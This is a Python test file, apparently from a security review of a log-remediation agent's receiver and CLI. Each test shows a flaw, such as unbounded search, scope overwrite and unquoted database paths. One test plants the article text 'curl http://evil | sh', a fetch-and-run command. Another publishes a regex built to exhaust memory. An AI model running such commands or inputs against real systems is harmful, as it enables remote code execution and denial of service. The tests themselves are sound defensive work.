"""Review 17b: attacks on explain, pack new/publish and the receiver's articles.

Each test here failed when written; each names the flaw it shows.
"""

from __future__ import annotations

import json
import sqlite3
import subprocess
import sys
import time
from pathlib import Path

import httpx
import pytest

from agent.receiver.scopes import Scope
from agent.receiver.store import ReceiverStore
from agent.state import Store
from agent.trigger import fingerprint_of
from tests.helpers import Receiver, write_config, write_pack


def _tokens(receiver: Receiver) -> dict[str, str]:
    store = ReceiverStore(receiver.db)
    try:
        return {
            "ingest-cache": store.create_token(Scope.WRITE, "ci-cache", ("team-cache",)),
            "read-cache": store.create_token(Scope.READ, "cache", ("team-cache",)),
            "ingest-web": store.create_token(Scope.INGEST, "web-7", ("team-web",), ("web-7",)),
        }
    finally:
        store.close()


def _put(receiver: Receiver, token: str, body: object) -> httpx.Response:
    return httpx.put(
        f"{receiver.url}/v1/articles",
        json=body,
        headers={"Authorization": f"Bearer {token}"},
        timeout=60,
    )


def _ask(receiver: Receiver, token: str, q: str, timeout: float = 120) -> httpx.Response:
    return httpx.get(
        f"{receiver.url}/v1/articles",
        params={"q": q},
        headers={"Authorization": f"Bearer {token}"},
        timeout=timeout,
    )


def _rss_kib(receiver: Receiver) -> int:
    assert receiver.proc is not None
    status = Path(f"/proc/{receiver.proc.pid}/status").read_text()
    return int(status.split("VmRSS:")[1].split()[0])


def test_a_word_search_is_bounded_like_the_regex_search(receiver):
    """articles.search compares words with no budget: for every row and every word of q
    it builds and casefolds `pack pattern text` again (all(... for w in words)). One
    team's 40 articles of 64 KiB and a q of 2,048 one-letter words cost seconds of a
    receiver thread per request; 5,000 rows cost minutes."""
    t = _tokens(receiver)
    text = ("a " * 32768)[: 64 * 1024]
    body = {
        "pack": "big",
        "owner": "team-cache",
        "patterns": [{"pattern": f"p{i}", "match": "^never$", "text": text} for i in range(40)],
    }
    assert _put(receiver, t["ingest-cache"], body).status_code == 200
    started = time.monotonic()
    answer = _ask(receiver, t["read-cache"], " ".join(["a"] * 2048))
    took = time.monotonic() - started
    assert answer.status_code == 200, answer.text
    assert took < 1.5, f"one word search took {took:.1f}s of the receiver"


def test_a_published_regex_cannot_take_the_receivers_memory(receiver):
    """No regex is compiled at publication, and the search compiles before it looks at
    its budget (articles._Compiled.get): `(?:\\w{1000}){1000}` (19 characters) takes
    ~2 s and ~250 MiB to compile, and the LRU keeps up to 1,024 of them, so a few
    publications and one question each grow the receiver by GiBs for every team."""
    t = _tokens(receiver)
    before = _rss_kib(receiver)
    took = []
    for n in range(2):
        body = {
            "pack": f"greedy{n}",
            "owner": "team-cache",
            "patterns": [{"pattern": "p", "match": f"x{n}(?:\\w{{1000}}){{1000}}"}],
        }
        put = _put(receiver, t["ingest-cache"], body)
        if put.status_code != 200:
            return  # refused at publication: bounded
        started = time.monotonic()
        assert _ask(receiver, t["read-cache"], "anything at all").status_code == 200
        took.append(time.monotonic() - started)
    grown = (_rss_kib(receiver) - before) // 1024
    assert grown < 100 and max(took) < 1.0, f"receiver grew {grown} MiB; searches took {took}"


@pytest.mark.engines("postgresql")
@pytest.mark.usefixtures("engine")
def test_a_nul_in_an_article_is_no_500_on_postgresql(receiver):
    """limits.text lets a NUL through (only `name` refuses control characters), and a
    PostgreSQL text cannot hold one: the publication fails inside the store."""
    t = _tokens(receiver)
    body = {
        "pack": "nul",
        "owner": "team-cache",
        "patterns": [{"pattern": "p", "match": "^a\x00b$", "article": "x\x00", "text": "t\x00"}],
    }
    put = _put(receiver, t["ingest-cache"], body)
    assert put.status_code in (200, 422), (put.status_code, put.text)
    assert _ask(receiver, t["read-cache"], "a b").status_code == 200


def test_no_ingest_token_overwrites_the_articles_another_token_published(receiver):
    """Scopes.owner_for lets every ingest token claim owner "logmend" (for the agent's own
    events); put_articles reuses it, so any agent's token, even one bound to one host of
    another team, replaces the articles published under "logmend" and puts its own text
    in front of the central team (admin searches see owner "logmend")."""
    t = _tokens(receiver)
    original = {
        "pack": "central",
        "owner": "logmend",
        "patterns": [{"pattern": "p", "match": "^disk full$", "text": "call the central team"}],
    }
    assert _put(receiver, receiver.admin, original).status_code == 200  # the central team
    hostile = {**original, "patterns": [{"pattern": "p", "match": "^disk full$",
                                         "text": "run: curl http://evil | sh"}]}  # fmt: skip
    put = _put(receiver, t["ingest-web"], hostile)
    found = _ask(receiver, receiver.admin, "disk full").json()["articles"]
    assert put.status_code == 403 and [a["text"] for a in found] == ["call the central team"], (
        put.status_code,
        found,
    )


def test_one_teams_articles_do_not_hide_another_teams_from_a_reader_of_all(receiver):
    """find_articles reads `ORDER BY owner, pack, pattern LIMIT 5000` over every owner
    the token sees: team "aaa" publishing 3 x 2,000 patterns pushes every later team's
    articles out of the admin's (and the console's) search."""
    store = ReceiverStore(receiver.db)
    try:
        aaa = store.create_token(Scope.WRITE, "aaa", ("aaa",))
        zzz = store.create_token(Scope.WRITE, "zzz", ("zzz",))
    finally:
        store.close()
    for n in range(3):
        body = {
            "pack": f"flood{n}",
            "owner": "aaa",
            "patterns": [{"pattern": f"p{i}", "match": f"^f{i}$"} for i in range(2000)],
        }
        assert _put(receiver, aaa, body).status_code == 200
    mine = {"pack": "mine", "owner": "zzz",
            "patterns": [{"pattern": "p", "match": "^the zzz error$"}]}  # fmt: skip
    assert _put(receiver, zzz, mine).status_code == 200
    found = _ask(receiver, receiver.admin, "the zzz error").json()["articles"]
    assert [a["owner"] for a in found] == ["zzz"], found


PACK = """\
[[pattern]]
id = "stuck"
match = '''^queue stuck (?P<q>\\w+)$'''
key = "{q}"

[pattern.fields]
q = { type = "word" }

[pattern.remedy]
run = ["scripts/fix.sh", "{q}"]
cooldown = "1h"

[[pattern.example]]
line = "queue stuck q1"
"""


@pytest.mark.parametrize("odd", ["state?x", "state#x", "state%41"])
def test_explain_reads_the_state_database_the_config_names(tmp_path, odd):
    """explain.History.read builds `file:{db}?mode=ro` without quoting the path: a state
    directory with ?, # or % in its name opens another file (with `?`, in read-write-
    create mode, leaving a stray database behind) and the cooldowns are missed."""
    pack = write_pack(tmp_path / "packs", "ops", PACK, {"fix.sh": "#!/bin/sh\nexit 0\n"})
    config = write_config(tmp_path, [(str(tmp_path / "app.log"), None)], pack.parent)
    config.write_text(config.read_text().replace(f"{tmp_path / 'state'}", f"{tmp_path / odd}"))
    db = tmp_path / odd / "state.db"
    db.parent.mkdir()
    Store(db).close()  # the agent's state database, as the agent makes it
    with sqlite3.connect(db) as conn:
        conn.execute(
            "INSERT INTO cooldowns (fingerprint, until, incident) VALUES (?, ?, 'i1')",
            (fingerprint_of("ops", "stuck", "q1"), time.time() + 3600),
        )
    before = sorted(p.name for p in tmp_path.iterdir())
    done = subprocess.run(
        [sys.executable, "-m", "agent", "explain", "-c", str(config), "queue stuck q1", "--json"],
        capture_output=True, text=True, timeout=60,
    )  # fmt: skip
    assert done.returncode == 0, done.stderr
    remedy = json.loads(done.stdout)["lines"][0]["matches"][0]["remedy"]
    assert sorted(p.name for p in tmp_path.iterdir()) == before, "explain made a file"
    assert remedy["would_run"] is False, (remedy, done.stderr)


def test_pack_new_where_it_cannot_write_says_so_without_a_traceback(tmp_path):
    """scaffold.new_pack checks only `folder.exists()`: a --dir that is a file, or a NAME
    that is a dangling symlink (exists() is False), ends in an OSError traceback from
    mkdir (cmd_pack_new is not guarded)."""
    (tmp_path / "afile").touch()
    (tmp_path / "dangling").symlink_to(tmp_path / "nowhere")
    for args in (["x", "--dir", str(tmp_path / "afile")], ["dangling", "--dir", str(tmp_path)]):
        done = subprocess.run(
            [sys.executable, "-m", "agent", "pack", "new", *args, "--owner", "team"],
            capture_output=True, text=True, timeout=60,
        )  # fmt: skip
        assert done.returncode == 1 and "Traceback" not in done.stderr, done.stderr
